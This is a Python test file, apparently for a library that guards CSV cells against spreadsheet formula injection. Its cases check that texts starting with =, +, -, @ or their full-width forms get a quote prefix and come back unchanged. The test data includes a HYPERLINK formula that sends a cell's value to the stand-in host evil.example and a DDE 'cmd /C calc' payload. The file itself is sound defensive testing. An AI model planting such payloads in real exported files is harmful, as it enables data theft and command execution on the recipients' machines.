"""Texts in CSV: no spreadsheet finds a formula in one, and each comes back as it was."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kg.formulas import guarded, unguarded

TEXTS = st.text(alphabet=st.sampled_from("=+-@＝＋－＠';\t\r\n ,\"|a园1"), max_size=12)
_BEGINS = re.compile(r"(?:^|[;\t\r\n])[=+\-@＝＋－＠]|^[\t\r\n]")


@given(TEXTS)
@example("'=1")
@example("\t=1;'=2")
def test_a_text_comes_back_and_begins_no_formula(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not _BEGINS.search(cell)


@given(TEXTS, TEXTS)
def test_two_texts_stay_two(one: str, other: str) -> None:
    assert (guarded(one) == guarded(other)) == (one == other)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("－5℃", "'－5℃"),
        ("x;=1+1;y", "x;'=1+1;y"),
        ("一\n-二", "一\n'-二"),
        ("\t=1", "'\t'=1"),
        ("'=1", "''=1"),
        ("3月—5月", "3月—5月"),
        ("a=b-c", "a=b-c"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_how_a_text_stands_in_a_cell(text: str, cell: str) -> None:
    assert guarded(text) == cell
